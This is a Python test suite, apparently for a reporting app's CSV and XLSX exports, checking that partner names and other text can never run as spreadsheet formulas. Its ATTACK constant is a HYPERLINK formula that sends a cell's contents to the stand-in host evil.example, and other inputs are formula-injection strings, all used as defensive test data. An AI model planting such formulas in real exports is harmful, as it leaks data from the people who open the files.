"""No exported cell can run as a formula: text is written inert, numbers stay numbers."""

import ast
import csv
import io
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reporting.exports import report_csv, report_xlsx
from reporting.exports.cells import FORMULA_STARTS, csv_writer, inert_text, xlsx_cell

ROOT = Path(__file__).resolve().parent.parent
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
texts = st.text(min_size=0, max_size=40) | st.sampled_from([ATTACK, "+1+1", "-2-2", "@SUM(A1)", "\t=1", "\r=1"])
values = texts | st.integers(-(10**9), 10**9) | st.none()


def csv_round_trip(row):
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue(), newline="")))


def xlsx_round_trip(row):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for column, value in enumerate(row, start=1):
        xlsx_cell(sheet, row=1, column=column, value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    read = openpyxl.load_workbook(buffer).active
    return [read.cell(row=1, column=column) for column in range(1, len(row) + 1)]


@settings(max_examples=60, deadline=None)
@given(st.lists(values, min_size=1, max_size=6))
def test_no_csv_cell_starts_like_a_formula(row):
    for value, cell in zip(row, csv_round_trip(row), strict=True):
        if isinstance(value, int):
            assert cell == str(value)  # a number stays a number
        else:
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(".", "").isdigit()


@settings(max_examples=40, deadline=None)
@given(st.lists(values, min_size=1, max_size=6))
def test_no_xlsx_cell_is_a_formula(row):
    for value, cell in zip(row, xlsx_round_trip(row), strict=True):
        assert cell.data_type != "f"
        if isinstance(value, int):
            assert (cell.value, cell.data_type) == (value, "n")


def test_the_partner_attack_reads_back_as_its_text():
    (cell,) = xlsx_round_trip([ATTACK])
    assert (cell.data_type, cell.value) == ("s", ATTACK)
    assert csv_round_trip([ATTACK]) == ["'" + ATTACK]


@pytest.mark.parametrize("number", ["-3", "+12.5", "-40%", "7"])
def test_text_that_is_only_a_number_is_left_alone(number):
    assert inert_text(number) == number


def _writes_cells_itself(path: Path) -> list[str]:
    """Calls that write export cells without going through reporting.exports.cells."""
    found = []
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = node.func.value
            if isinstance(owner, ast.Name) and owner.id == "csv" and node.func.attr in {"writer", "DictWriter"}:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.func.attr}")
            if node.func.attr == "cell" and any(k.arg == "value" for k in node.keywords):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} .cell(value=...)")
    return found


def test_every_export_writer_goes_through_the_inert_cells():
    apps = ["navigators", "survivors", "casework", "dataprotection", "reporting"]
    paths = [p for app in apps for p in (ROOT / app).rglob("*.py") if p.name != "cells.py"]
    assert [hit for path in paths for hit in _writes_cells_itself(path)] == []


def _report_with_partner(name):
    from tests.test_exports import sample_report

    report = sample_report()
    row = next(row for row in report.indicators if row.partners)
    row.partners[0] = replace(row.partners[0], partner=name)
    return report


@settings(max_examples=15, deadline=None)
@given(texts)
def test_a_partner_named_like_a_formula_stays_text_in_every_export(name):
    report = _report_with_partner(name)

    workbook = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    rows = list(csv.reader(io.StringIO(report_csv(report), newline="")))
    assert [cell for row in rows for cell in row if cell.startswith(("=", "@"))] == []


def test_the_partner_attack_is_inert_in_the_headline_exports():
    report = _report_with_partner(ATTACK)

    workbook = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    texts_written = [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(ATTACK in str(value) for value in texts_written)  # shown, as the text it is
    holding = [
        cell for row in csv.reader(io.StringIO(report_csv(report), newline="")) for cell in row if ATTACK in cell
    ]
    assert holding  # the CSV names the partner too
    assert [cell for cell in holding if cell.startswith(FORMULA_STARTS)] == []
